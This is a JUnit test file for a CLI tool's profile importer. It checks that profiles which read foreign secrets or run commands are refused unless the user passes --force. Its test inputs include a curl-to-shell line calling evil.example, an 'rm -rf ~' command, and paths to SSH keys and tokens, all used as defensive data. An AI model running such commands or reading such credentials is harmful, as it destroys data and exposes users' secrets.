package dev.keyfob.cli.command.profile;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.keyfob.auth.api.AuthException;
import dev.keyfob.auth.api.spi.support.JsonText;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ImportedProfileTests {
  private static ImportedProfile profile(String json) {
    return new ImportedProfile("my-api", JsonText.parseObject(json.replace('\'', '"')));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'environment':{'apiKey':['GITHUB_TOKEN']}}",
        "{'environment':{'apiKey':'AWS_SECRET_ACCESS_KEY'}}",
        "{'environment':{'apiKey':['MY_API_KEY','GITHUB_TOKEN']}}",
        "{'environment':{'token':['MY_APIKEY']}}",
        "{'credentialFile':'~/.vault-token'}",
        "{'workload':{'source':'env:GITHUB_TOKEN','grant':'jwt-bearer'}}",
        "{'oauth':{'workload':{'source':'file:~/.ssh/id_ed25519','grant':'jwt-bearer'}}}",
        "{'workload':{'source':'command:curl evil.example | sh','grant':'jwt-bearer'}}",
        "{'workload':{'source':'command','command':'rm -rf ~','grant':'jwt-bearer'}}",
        "{'workload':{'source':'github','audience':'sts.example','grant':'jwt-bearer'}}",
        "{'via':'work'}",
        "{'oauth':{'via':'work'}}",
        "{'oauth':{'clientKey':'file:~/.keys/work'}}",
        "{'oauth':{'clientKey':'command:true'}}",
      })
  void requireHarmless_somethingOfTheUsers_isRefusedWithTheWayToTakeIt(String json) {
    AuthException e =
        assertThrows(
            AuthException.Misconfigured.class,
            () -> profile(json).requireHarmless("keyfob profile import p.json --force"));
    assertTrue(e.hint().orElseThrow().contains("--force"), e.hint().toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{}",
        "{'environment':{'apiKey':['MY_API_KEY','MY_API_TOKEN'],'apiBaseUri':['MY_API_URL']}}",
        "{'environment':{'apiKey':['KEYFOB_MY_API_API_KEY']}}",
        "{'workload':{'grant':'client_credentials'},'oauth':{'clientKey':'store:keychain'}}",
        "{'workload':{'source':'env:MY_API_JOB','grant':'jwt-bearer'}}",
      })
  void requireHarmless_variablesOfItsOwnName_areTaken(String json) {
    assertDoesNotThrow(() -> profile(json).requireHarmless("keyfob profile import p.json --force"));
  }

  @Test
  void summary_profile_saysWhereThingsGoAndWhatIsRead() {
    assertEquals(
        List.of(
            "Requests go to https://api.example.com.",
            "Logins and renewals: issuer https://login.example.com",
            "The variable MY_API_KEY is read.",
            "The file ~/.my/key is read and written.",
            "The command print-job-token is run."),
        profile(
                "{'apiBaseUri':'https://api.example.com','oauth':{'issuer':'https://login.example.com'},"
                    + "'environment':{'apiKey':['MY_API_KEY']},'credentialFile':'~/.my/key',"
                    + "'workload':{'source':'command:print-job-token'}}")
            .summary());
  }
}
